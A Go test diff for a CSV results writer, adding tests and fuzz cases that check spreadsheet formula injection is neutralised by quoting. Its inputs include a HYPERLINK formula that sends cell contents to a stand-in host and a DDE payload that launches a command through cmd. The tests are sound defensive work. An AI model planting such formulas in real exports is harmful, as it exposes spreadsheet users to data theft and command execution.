@@ -8,6 +8,7 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -181,6 +182,79 @@ func TestReadRunsBOM(t *testing.T) {
 	}
 }
 
+// What a spreadsheet would run comes from far hosts: it stands behind a quote, in every
+// file and every text column, and reading gives back what was written.
+func TestFormulas(t *testing.T) {
+	const link = `=HYPERLINK("http://x/?"&A1)`
+	r := sample(0)
+	r.RunID, r.SessionID, r.Reason, r.Fix = "+1+1|cmd", "@SUM(A1)", link, "\t=1+1"
+	r.Cell.ID, r.Source = "-2+3", "＝1+1"
+	r.Warnings, r.Flags = []string{link, "plain", "-x"}, []string{"a", "=b"}
+	r.SUT.Name, r.TG.Name = "=cmd|' /C calc'!A0", "'=b"
+	r.SUT.Env.CPUModel, r.SUT.Env.Driver, r.SUT.Env.AppCPU, r.TG.Env.Kernel = " =1", "''-x", "-1", "'6.18"
+	for i := range r.SUT.Metrics {
+		m := &r.SUT.Metrics[i]
+		m.Name, m.Unit, m.Source, m.Quality, m.Value = "=a", "+b", "@c", "-d", -1.5
+	}
+	for i := range r.SUT.Series {
+		s := &r.SUT.Series[i]
+		s.Name, s.Unit, s.V[0] = "=a", "+b", -2e-9
+	}
+	dir := t.TempDir()
+	if err := WriteCSV(dir, []Record{r}); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{RunsFile, MetricsFile, SamplesFile} {
+		data, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows {
+			for i, field := range row {
+				first := strings.TrimLeft(field, " \t")
+				_, number := strconv.ParseFloat(first, 64)
+				if first != "" && strings.ContainsAny(first[:1], "=+-@") && number != nil {
+					t.Errorf("%s, %s: %q", name, rows[0][i], field)
+				}
+			}
+		}
+		if !bytes.Contains(data, []byte(",-1,")) && name == RunsFile || bytes.Contains(data, []byte("'-1")) {
+			t.Errorf("%s: a number was quoted", name)
+		}
+	}
+	data, _ := os.ReadFile(filepath.Join(dir, RunsFile))
+	recs, err := ReadRuns(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, h := range []*Host{&r.SUT, &r.TG} {
+		h.Metrics, h.Series = nil, nil
+	}
+	r.Fix = " =1+1"
+	if diff := cmp.Diff([]Record{r}, recs); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+}
+
+func FuzzFormula(f *testing.F) {
+	for _, s := range []string{"", "=1", "'=1", "''", "-1", "'-1", "- ", "＝", "' '+", "\xff=", "-0x1p4", "+Inf"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		q := asText(s)
+		if asIs(q) != s {
+			t.Errorf("%q, written %q, read %q", s, q, asIs(q))
+		}
+		if strings.HasPrefix(q, "=") || strings.HasPrefix(q, "@") {
+			t.Errorf("%q is written %q", s, q)
+		}
+	})
+}
+
 func FuzzRunsCSV(f *testing.F) {
 	data, err := os.ReadFile("testdata/runs-v1.csv")
 	if err != nil {
@@ -188,6 +262,7 @@ func FuzzRunsCSV(f *testing.F) {
 	}
 	f.Add(data)
 	f.Add([]byte("schema_version,run_id,cell_id,role,verdict,flags,host\n1,r,c,tg,ok,a;b\\;c,h#tg\n"))
+	f.Add([]byte("schema_version,run_id,cell_id,role,verdict,flags,host\n1,'=r,''-c,tg,ok,'=a;' +b,@h#tg\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		recs, err := ReadRuns(bytes.NewReader(data))
 		if err != nil {
